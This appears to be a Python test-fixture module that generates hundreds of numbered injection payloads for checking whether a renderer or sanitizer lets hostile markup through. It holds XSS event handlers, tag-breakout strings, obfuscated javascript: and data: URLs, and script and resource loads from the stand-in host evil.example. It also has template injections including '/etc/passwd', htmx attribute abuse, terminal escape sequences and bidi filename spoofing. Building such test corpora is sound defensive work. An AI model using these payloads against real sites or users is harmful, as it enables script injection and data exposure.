"""Two hundred and more words that want to be more than words, each with a number: `evil7` names the seventh.

Whatever runs opens a dialog, whatever is fetched comes from a host that does not exist, and every element carries the
number as its id, so that a page that lets one through cannot keep it to itself.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

FAR = "//evil.example"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "iframe",
    "math",
    "marquee",
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onbegin")
FETCHING = (
    "<img id={id} src={far}/{id}>",
    "<img id={id} srcset='{far}/{id} 1x'>",
    "<link id={id} rel=stylesheet href={far}/{id}>",
    "<link id={id} rel=preload as=image href={far}/{id}>",
    "<style id={id}>@import '{far}/{id}'; body {{ background: url({far}/{id}) }}</style>",
    "<p id={id} style='background: url({far}/{id})'>",
    "<object id={id} data={far}/{id}></object>",
    "<embed id={id} src={far}/{id}>",
    "<base id={id} href={far}/>",
    "<meta id={id} http-equiv=refresh content='0; url={far}/{id}'>",
    "<video id={id} poster={far}/{id}></video>",
    "<svg id={id}><image href='{far}/{id}'/></svg>",
    "<svg id={id}><use href='{far}/{id}#x'/></svg>",
    "<svg id={id}><foreignObject><iframe src={far}/{id}></iframe></foreignObject></svg>",
    "<math id={id}><mtext><style><img src={far}/{id} onerror=alert('{id}')></style></mtext></math>",
    "<math id={id}><maction actiontype=statusline xlink:href=javascript:alert('{id}')>x</maction></math>",
    "<form id={id} action={far}/{id}><button>Send</button></form>",
    "<script id={id} src={far}/{id}></script>",
)
ESCAPING = (
    "<script id={id}>alert('{id}')</script>",
    "</script><script id={id}>alert('{id}')</script>",
    "<!--<script id={id}>alert('{id}')//",
    "</title><svg id={id} onload=alert('{id}')>",
    "</textarea><svg id={id} onload=alert('{id}')>",
    "</pre></code></details></li></ol></main><svg id={id} onload=alert('{id}')>",
    "<![CDATA[<svg id={id} onload=alert('{id}')>]]>",
    "<noscript><p title='</noscript><img id={id} src=x onerror=alert(1)>'>",
    "\" autofocus onfocus=alert('{id}') id={id} x=\"",
    "' autofocus onfocus=alert(\"{id}\") id={id} x='",
    "` onmouseover=alert('{id}') id={id} x=`",
    "\"><svg id={id} onload=alert('{id}')>",
    "&lt;svg id={id} onload=alert('{id}')&gt;",
    "&#60;svg id={id} onload=alert('{id}')&#62;",
    "\\u003csvg id={id} onload=alert('{id}')\\u003e",
    "{id}\u2028alert('{id}')\u2029",
    "<svg/\x0bid={id}/onload=alert('{id}')>",
    "<a id={id} href='java\tscript:alert(1)'>x</a>",
)
SCHEMES = (
    "javascript:alert('{id}')",
    "JaVaScRiPt:alert('{id}')",
    "java&#115;cript:alert('{id}')",
    "&#x6A;avascript:alert('{id}')",
    "java\tscript:alert('{id}')",
    "\x01javascript:alert('{id}')",
    "javascript&colon;alert('{id}')",
    "vbscript:alert('{id}')",
    "data:text/html,<script>alert('{id}')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{id}",
    "data:image/svg+xml,<svg onload=alert('{id}')>",
    "{far}/{id}",
)
MARKDOWN = (
    "[{id}]({url})",
    "![{id}]({url})",
    "[{id}](<{url}>)",
    "<{url}> {id}",
    "[{id}][{id}]\n\n[{id}]: {url}",
    "[![{id}]({url})]({url})",
)
TEMPLATES = (
    "{{{{ {id}|safe }}}}",
    "{{% debug %}} {id}",
    "{{% include '/etc/passwd' %}} {id}",
    "${{alert('{id}')}}",
    "<%= alert('{id}') %>",
    "#{{alert('{id}')}}",
    "{{{{constructor.constructor('alert(\"{id}\")')()}}}}",
    "{{{{{{ {id} }}}}}}",
)
HTMX = (
    "<p id={id} {prefix}hx-get={far}/{id} {prefix}hx-trigger=load>x</p>",
    "<p id={id} {prefix}hx-on:htmx:load=alert('{id}')>x</p>",
    "<p id={id} {prefix}hx-on--load=alert('{id}') {prefix}hx-get=/ {prefix}hx-trigger=load>x</p>",
    "<p id={id} {prefix}hx-vals=js:{{x:alert('{id}')}} {prefix}hx-get=/ {prefix}hx-trigger=load>x</p>",
    "<p id={id} {prefix}hx-trigger='load[alert(1)]' {prefix}hx-get=/>x</p>",
    "<div id={id} {prefix}hx-boost=true><a href=/settings>x</a></div>",
    "<p id={id} {prefix}hx-swap-oob=true {prefix}hx-ext=evil>x</p>",
)
TERMINAL = (
    "\x1b]8;;{url}\x07{id}\x1b]8;;\x07",
    "\x1b]8;;{url}\x1b\\{id}\x1b]8;;\x1b\\",
    "\x1b[31m{id}<svg id={id} onload=alert(1)>\x1b[0m",
    "\x1b]0;{id}\x07\x1b[2J\x1b[38;5;999999999m{id}",
    "\x9b31m{id}\x9d8;;{url}\x9c",
)


def _forms() -> Iterator[str]:
    yield from (f"<{tag} id={{id}} {event}=alert('{{id}}')>" for tag, event in product(ELEMENTS, EVENTS))
    yield from FETCHING
    yield from ESCAPING
    yield from (form.replace("{url}", url) for form, url in product(MARKDOWN, SCHEMES))
    yield from TEMPLATES
    yield from (form.replace("{prefix}", prefix) for form, prefix in product(HTMX, ("", "data-")))
    yield from (form.replace("{url}", url) for form, url in product(TERMINAL, SCHEMES[::3]))
    yield from (f"{{id}}{mark}gpj.exe{mark}" for mark in BIDI)


def mark(number: int) -> str:
    """How the payload of this number is known again, at its end too: evil1x is no part of evil10x."""
    return f"evil{number}x"


PAYLOADS = tuple(form.format(id=mark(number), far=FAR) for number, form in enumerate(_forms()))
ALL = "\n\n".join(PAYLOADS)


def spread(count: int, longest: int) -> list[str]:
    """So many texts of at most this length that have all payloads between them, as far as they fit."""
    return [" ".join(PAYLOADS[start::count])[:longest] for start in range(count)]
